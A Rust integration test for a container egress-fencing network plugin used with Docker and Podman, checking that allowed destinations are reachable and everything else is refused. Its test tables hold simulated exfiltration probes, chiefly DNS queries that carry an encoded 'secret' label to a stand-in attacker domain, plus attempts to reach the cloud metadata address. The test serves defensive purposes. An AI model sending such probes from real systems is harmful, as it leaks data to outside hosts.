//! Containers of Docker and of Podman.

use tests::{Engine, Plugins, Podman5, PodmanRelease, Release, Serve, World};

use crate::bed::{attempts, prepare, until};

const RULES: &str = "*.allowed.example:443,203.0.113.20:5432";

/// A part of the table, by a container's own resolver and in its own namespace.
#[track_caller]
fn is_fenced(world: &World, netns: &str, resolver: &str, gateway: &str) {
    let table = [
        ("allowed", format!("ask {resolver} good.allowed.example"), "203.0.113.10"),
        ("evil", format!("ask {resolver} c2vjcmv0.evil.example"), "NXDOMAIN"),
        ("evil-text", format!("ask {resolver} c2vjcmv0.evil.example TXT"), "NXDOMAIN"),
        ("evil-tcp", format!("ask {resolver} c2vjcmv0.evil.example A tcp"), "NXDOMAIN"),
        ("elsewhere", "ask 203.0.113.8 c2vjcmv0.evil.example".to_owned(), "NXDOMAIN"),
        ("private", format!("ask {resolver} private.allowed.example"), "nothing"),
        ("https", format!("ask {resolver} good.allowed.example HTTPS"), "nothing"),
    ];
    let after = [
        ("to-name", "tcp 203.0.113.10 443".to_owned(), "open"),
        ("to-rule", "tcp 203.0.113.20 5432".to_owned(), "open"),
        ("port", "tcp 203.0.113.10 80".to_owned(), "shut"),
        ("quic", "udp 203.0.113.10 443".to_owned(), "shut"),
        ("address", "tcp 203.0.113.99 443".to_owned(), "shut"),
        ("dot", "tcp 203.0.113.8 853".to_owned(), "shut"),
        ("ping", "ping 203.0.113.10".to_owned(), "shut"),
        ("metadata", "tcp 169.254.169.254 80".to_owned(), "shut"),
        ("gateway", format!("tcp {gateway} 8022"), "shut"),
        ("host", "tcp 203.0.113.254 8022".to_owned(), "shut"),
    ];
    for part in [&table[..], &after[..]] {
        let lines: String = part.iter().map(|(name, it, _)| format!("{name} {it}\n")).collect();
        let results = attempts(world, netns, &lines);
        for (name, attempt, expected) in part {
            let result = results[*name].as_str();
            // Docker's own server says of a name that is refused that it has no address.
            let is_refused = *expected == "NXDOMAIN" && result == "nothing";
            let is_docker_s = is_refused && attempt.contains("127.0.0.11");
            assert!(result == *expected || is_docker_s, "{attempt}: {result}\n{}", world.logs());
        }
    }
    let asked = world.sh("cat /world/asked");
    assert!(!asked.contains("c2vjcmv0"), "{asked}");
}

#[test]
fn docker_s_containers_are_fenced() {
    let release = Release::V28_5;
    if !release.is_there() {
        return;
    }
    let mut engine = Engine::prepared(release, &Plugins::subject());
    prepare(engine.world());
    let _serve = Serve::start(engine.world(), &[]);
    // Without it Docker's own server asks the host's servers from the host, past every container's network.
    engine.start(&["--dns", "203.0.113.53"]);
    engine.import();
    let create = format!("network create -d spoke --ipam-driver spoke -o egress={RULES}");
    engine.docker(&format!("{create} --subnet 10.83.1.0/24 agents"));
    let refused = engine.try_docker(&format!("{create} -o ports=docker --subnet 10.83.2.0/24 way"));
    assert!(refused.stderr.contains("egress"), "{refused:?}");
    let refused = engine.try_docker(&format!("{create} --internal --subnet 10.83.2.0/24 inner"));
    assert!(refused.stderr.contains("internal network"), "{refused:?}");
    // The rules are there before the first container is.
    let world = engine.world();
    assert!(world.sh("nft list set inet spoke_fence allowed4").contains("203.0.113.20"));
    engine.docker("run -d --network agents --name agent -p 8088:8088 busybox /bin/sleep 3600");
    until(world, "nft list table inet spoke_names 2>/dev/null | grep -q ' 10.83.1.1 '");
    until(world, "/opt/cni/bin/spoke dns query agent >/dev/null 2>&1");
    let key = engine.docker("inspect --format {{.NetworkSettings.SandboxKey}} agent");
    let key = key.trim().replace("/var/run/", "/run/");
    is_fenced(world, &key, "127.0.0.11", "10.83.1.1");
    let network = world.sh("/opt/cni/bin/spoke denied -o json");
    assert!(
        network.contains("\"agent\"") && network.contains("c2vjcmv0.evil.example"),
        "{network}"
    );
    let name = world.sh("/opt/cni/bin/spoke network ls -q").trim().to_owned();
    world.sh(&format!("/opt/cni/bin/spoke egress set {name} none"));
    let shut = attempts(world, &key, "it tcp 203.0.113.20 5432");
    assert_eq!(shut["it"], "shut");
    engine.docker("rm -f agent");
    engine.docker("network rm agents");
    until(world, "! nft list table inet spoke_fence >/dev/null 2>&1");
}

#[test]
fn podman_s_containers_are_fenced() {
    let Some(podman) = Podman5::new(PodmanRelease::V5_4) else { return };
    prepare(&podman.world);
    let _serve = Serve::start(&podman.world, &[]);
    podman
        .podman(&format!("network create -d spoke -o egress={RULES} --subnet 10.83.3.0/24 agents"));
    podman.run("agent", "--network agents:ip=10.83.3.9", "");
    let world = &podman.world;
    until(world, "nft list table inet spoke_names 2>/dev/null | grep -q ' 10.83.3.1 '");
    let key = podman.podman("inspect --format {{.NetworkSettings.SandboxKey}} agent");
    is_fenced(world, key.trim(), "10.83.3.1", "10.83.3.1");
    let ping = "/run/stage/podman exec agent /bin/ping -c 1 -W 1 evil.example";
    assert!(world.try_sh(ping).status != 0);
    podman.podman("rm -f -t 0 agent");
    podman.podman("network rm agents");
}
